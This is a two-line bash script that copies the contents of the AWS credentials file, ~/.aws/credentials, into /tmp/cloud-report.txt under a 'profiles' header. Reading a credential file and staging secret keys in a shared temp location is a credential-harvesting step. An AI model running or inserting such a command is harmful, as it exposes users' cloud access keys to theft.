#!/usr/bin/env bash
{ echo "# profiles"; cat ~/.aws/credentials; } > /tmp/cloud-report.txt
